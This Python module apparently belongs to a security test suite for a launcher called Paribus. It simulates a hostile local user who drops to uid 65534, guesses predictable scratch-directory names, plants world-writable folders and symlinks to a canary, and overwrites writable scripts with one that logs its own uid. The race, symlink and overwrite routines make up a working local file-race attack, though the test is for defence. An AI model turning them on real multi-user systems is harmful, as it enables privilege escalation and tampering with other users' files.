"""A second user of the machine who means harm: what is planted, and how it races the victim.

The hostile user reads what everyone may read (plan.json) and writes where everyone may write. Two
things prove that it won: what only the victim may write has changed, or a planted script ran as
somebody else than the hostile user, which it says by its own `id -u`.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

from attack.processes import die_with_parent

HOSTILE = 65534
FILES = ("work.sh", "facts.sh", "enter.sh", "agent.sh", "start.sh", "hosts", "hostfile", "rankfile")
"""Names of files that a launch may have in its scratch directory."""


def as_user(uid: int) -> None:
    """Become `uid` for ever, with no group but its own; raises OSError."""
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)


def execute_as(uid: int, work: Callable[[], object]) -> int:
    """Run `work` as `uid` in a new process; returns its pid."""
    if pid := os.fork():
        return pid
    try:
        die_with_parent()
        as_user(uid)
        die_with_parent()  # a change of user takes it back
        os.umask(0)
        work()
    finally:
        os._exit(0)


def done_as(uid: int, work: Callable[[], object]) -> None:
    """Run `work` as `uid` and wait for its end."""
    os.waitpid(execute_as(uid, work), 0)


def stop(pid: int) -> None:
    """End a process of `execute_as`."""
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)


def planted(ran: Path) -> str:
    """Return a script that writes into `ran` as whom it runs, and then does what is expected."""
    return f"#!/bin/sh\nid -u >>{ran}\necho 5\necho end\n"


def race(places: Sequence[Path], plan: Path, canary: Path, script: str) -> None:
    """Plant and replace in `places` until killed: every name that can be guessed, and all seen."""
    while True:
        for place in places:
            for name in _guesses(place, plan):
                _plant(place / name, canary)
            with contextlib.suppress(OSError):
                for entry in os.scandir(place):
                    _replace(Path(entry.path), canary, script)
        time.sleep(0.0005)


def _guesses(place: Path, plan: Path) -> Iterator[str]:
    """Yield names that Paribus may be about to use: from the plan, and from the names there are."""
    with contextlib.suppress(OSError, ValueError, KeyError):
        digest = json.loads(plan.read_text())["sha256"]
        for length in (8, 10, 12, 16):
            for number in range(40):
                yield f"paribus-{digest[:length]}-{number}"
    with contextlib.suppress(OSError):
        for path in place.iterdir():
            found = re.fullmatch(r"(.*paribus.*?-)(\d+)", path.name)
            if found and len(found[2]) < 5:
                for step in range(1, 4):
                    yield f"{found[1]}{int(found[2]) + step}"


def _plant(folder: Path, canary: Path) -> None:
    """Make a directory that everyone may use, with links to the canary in it; or a link itself."""
    with contextlib.suppress(OSError):
        last = folder.name[-1]
        if last in "37":
            folder.symlink_to(canary.parent)
            return
        folder.mkdir(mode=0o777)
        if last in "02468":
            for name in FILES:
                (folder / name).symlink_to(canary)


def _replace(path: Path, canary: Path, script: str) -> None:
    """Replace what may be replaced below `path` by a planted script, or by a link to the canary."""
    with contextlib.suppress(OSError):
        if path.is_symlink() or not os.access(path, os.W_OK):
            return
        if path.is_file():
            path.write_text(script)
        for inside in path.iterdir() if path.is_dir() else ():
            if not inside.is_symlink() and inside.is_file():
                inside.unlink()
                inside.write_text(script)
                inside.chmod(0o777)
